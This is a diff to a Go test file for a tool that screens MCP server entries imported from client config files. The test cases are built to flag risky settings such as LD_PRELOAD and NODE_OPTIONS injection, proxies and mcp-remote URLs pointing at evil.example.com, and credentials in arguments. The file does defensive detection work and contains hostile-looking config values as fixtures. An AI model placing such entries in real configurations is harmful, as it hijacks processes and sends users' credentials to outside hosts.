@@ -17,7 +17,7 @@ func imported(t *testing.T, entry string, foreign bool, accept ...string) (s *cl
 	}}
 	f, err := clientfile.Read("/home/kim/shop/.mcp.json", []byte(`{"inputs": [{"id": "AWS_KEY"}], "mcpServers": {"gh": `+entry+`}}`), o)
 	require.OK(t, err)
-	servers, err := clientfile.Collect([]*clientfile.File{f}, clientfile.Choice{Accept: accept}, false)
+	servers, err := clientfile.Collect([]*clientfile.File{f}, clientfile.Choice{Accept: accept})
 	require.OK(t, err)
 	var all []string
 	for _, c := range servers[0].Checks {
@@ -36,7 +36,6 @@ func TestChecks(t *testing.T) {
 		"its own search path":  {env + `"PATH": "${PATH}", "HTTPS_PROXY": "${env:HTTPS_PROXY}"}}`, "", ""},
 		"a runtime":            {env + `"NODE_OPTIONS": "--require ./x", "PYTHONSTARTUP": "x", "BASH_ENV": "x", "ENV": "x"}}`, "env.NODE_OPTIONS env.PYTHONSTARTUP env.BASH_ENV env.ENV", "env.NODE_OPTIONS env.PYTHONSTARTUP env.BASH_ENV env.ENV"},
 		"a proxy":              {env + `"https_proxy": "http://evil.example.com", "NODE_EXTRA_CA_CERTS": "x"}}`, "env.https_proxy env.NODE_EXTRA_CA_CERTS", "env.https_proxy env.NODE_EXTRA_CA_CERTS"},
-		"set by env":           {`{"command": "env", "args": ["LD_PRELOAD=./x.so", "npx", "x"]}`, "env.LD_PRELOAD", "env.LD_PRELOAD"},
 		"usual variables":      {env + `"LOG_LEVEL": "debug", "API_KEY": "${API_KEY}"}}`, "", ""},
 		"a folder above":       {`{"command": "npx", "cwd": "../.."}`, "cwd", "cwd"},
 		"a folder that climbs": {`{"command": "npx", "cwd": "a/../../b"}`, "cwd", "cwd"},
@@ -55,7 +54,6 @@ func TestChecks(t *testing.T) {
 		"mcp-remote":                  {`{"command": "npx", "args": ["mcp-remote", "https://evil.example.com/", "--header", "X:${T}"]}`, "", "headers.X"},
 		"in the URL":                  {`{"url": "https://evil.example.com/${TENANT}"}`, "", "url"},
 		"the host":                    {`{"url": "${NOT_SET:-https://evil.example.com}/mcp"}`, "", ""},
-		"in an argument with a URL":   {`{"command": "npx", "args": ["mcp-remote", "https://evil.example.com/?api_key=${T}"]}`, "", "args"},
 		"beside the URL of a program": {env + `"BASE_URL": "https://evil.example.com", "API_KEY": "${API_KEY}"}}`, "", "env.API_KEY"},
 	} {
 		for foreign, want := range map[bool]string{false: tt.own, true: tt.foreign} {
@@ -70,7 +68,7 @@ func TestChecks(t *testing.T) {
 					t.Errorf("%s: %s is taken over: %s", name, c.ID, entry)
 				}
 			}
-			if (strings.Contains(want, "args") || strings.Contains(want, "url")) && !strings.Contains(s.Left, "it takes --accept gh.") {
+			if strings.Contains(want, "url") && !strings.Contains(s.Left, "it takes --accept gh.") {
 				t.Errorf("%s: the server is taken over without %s", name, want)
 			}
 		}
@@ -82,6 +80,9 @@ func TestAccept(t *testing.T) {
 	s, left := imported(t, entry, true, "gh.env.PATH", "gh.cwd")
 	if got := string(s.Entry()); left != "env.LD_PRELOAD" || got != `{"command":"npx","args":["x"],"cwd":"..","env":{"PATH":"./bin"}}` {
 		t.Errorf("%s is left, and taken over is %s", left, got)
+	}
+	if tenant, _ := imported(t, `{"url": "https://a.example.com/${TENANT}"}`, true, "gh.url"); tenant.Left != "" {
+		t.Errorf("with an accepted URL it is left out: %s", tenant.Left)
 	}
 	bare, _ := imported(t, entry, true)
 	if !s.SameAs(bare.Entry()) {
@@ -109,29 +110,59 @@ func TestAccept(t *testing.T) {
 		"gh.env.PAHT": `--accept "gh.env.PAHT" matches nothing: there are gh.env.PATH, gh.env.LD_PRELOAD, gh.cwd`,
 		"PATH":        `--accept "PATH" matches nothing`,
 	} {
-		if _, err := clientfile.Collect([]*clientfile.File{f}, clientfile.Choice{Accept: []string{id}}, false); err == nil || !strings.HasPrefix(err.Error(), want) {
+		if _, err := clientfile.Collect([]*clientfile.File{f}, clientfile.Choice{Accept: []string{id}}); err == nil || !strings.HasPrefix(err.Error(), want) {
 			t.Errorf("%s: %v, want %s", id, err, want)
 		}
 	}
 }
 
-// The same values are credentials in an argument as in a command that is shown.
-func TestShortFlagIsCredential(t *testing.T) {
-	for arg, want := range map[string]bool{`"-p", "hunter22"`: true, `"-p=hunter22"`: true, `"-p", "8080"`: false} {
-		s, _ := imported(t, `{"command": "x", "args": [`+arg+`]}`, false)
-		if got := len(s.Variables()) == 1; got != want {
-			t.Errorf("%s: %s", arg, s.Entry())
+// A gateway replaces nothing in arguments. Credentials there are the same values that are hidden in a
+// command that is shown.
+func TestArguments(t *testing.T) {
+	const secret, env = "holds a credential or a variable", "the command env sets a variable"
+	for entry, want := range map[string]string{
+		`"x", "args": ["-p", "hunter22"]`:                                    secret,
+		`"x", "args": ["-p=hunter22"]`:                                       secret,
+		`"x", "args": ["-p", "8080"]`:                                        "",
+		`"x", "args": ["--token", "made-up-1"]`:                              secret,
+		`"x", "args": ["--api-key=made-up-1"]`:                               secret,
+		`"x", "args": ["--header", "X-Api-Key:made-up-1"]`:                   secret,
+		`"x", "args": ["API_KEY=made-up-1"]`:                                 secret,
+		`"x", "args": ["--db=postgres://u:hunter2@db.example.com/shop"]`:     secret,
+		`"x", "args": ["postgres://u:hunter\"2 @db.example.com/shop"]`:       secret,
+		`"x", "args": ["https://a.example.com/mcp?api_key=made-up-1"]`:       secret,
+		`"x", "args": ["--region", "${REGION}"]`:                             secret,
+		`"x", "args": ["${secretsmanager:prod/db}"]`:                         secret,
+		`"x", "args": ["https://a.example.com/mcp", "${workspaceFolder}/x"]`: "",
+		`"sh", "args": ["-c", "exec npx x"]`:                                 "",
+		`"sh", "args": ["-c", "exec npx x --token made-up-1"]`:               secret,
+		`"sh", "args": ["-c", "exec npx x --token ${TOKEN}"]`:                secret,
+		`"env", "args": ["LD_PRELOAD=./x.so", "npx", "x"]`:                   env,
+		`"env", "args": ["-i", "API_KEY=made-up-1", "npx", "x"]`:             env,
+		`"/usr/bin/env", "args": ["node", "x.js"]`:                           "",
+		`"docker", "args": ["run", "-e", "TOKEN=made-up-1", "x"]`:            "",
+		`"docker", "args": ["run", "--env=TOKEN=made-up-1", "x"]`:            secret,
+		`"npx", "args": ["mcp-remote", "https://a.example.com/?api_key=${T}"]`: "refers to ${T}, where a gateway " +
+			"replaces nothing",
+		`"npx", "args": ["mcp-remote", "https://a.example.com/?api_key=made-up-1"]`: "",
+	} {
+		s, _ := imported(t, `{"command": `+entry+`}`, true)
+		if (s.Left == "") != (want == "") || !strings.Contains(s.Left, want) {
+			t.Errorf("%s: left out: %q, want %q", entry, s.Left, want)
+		}
+		if got := string(s.Entry()); madeUp.MatchString(got) {
+			t.Errorf("%s: a credential is in %s", entry, got)
 		}
 	}
 }
 
 // What is accepted of one server is not accepted of another one that had its name.
 func TestAcceptOneOfTwo(t *testing.T) {
-	servers, err := gather(t, clientfile.Choice{Rename: true, Accept: []string{"gh.env.PATH"}},
+	servers, err := gather(t, clientfile.Choice{Accept: []string{"gh.env.PATH"}},
 		`"gh": {"command": "one", "env": {"PATH": "a"}}`, `"gh": {"command": "two", "env": {"PATH": "b"}}`)
 	require.OK(t, err)
-	if len(servers[0].Env) != 1 || len(servers[1].Env) != 0 {
-		t.Errorf("%v, %v", servers[0].Env, servers[1].Env)
+	if len(servers[0].Env) != 1 || servers[1].Left == "" {
+		t.Errorf("%v, %v", servers[0].Env, servers[1])
 	}
 	servers, err = gather(t, clientfile.Choice{As: map[string]string{"gh": "work"}, Accept: []string{"gh.env.PATH"}}, `"gh": {"command": "one", "env": {"PATH": "a"}}`)
 	require.OK(t, err)
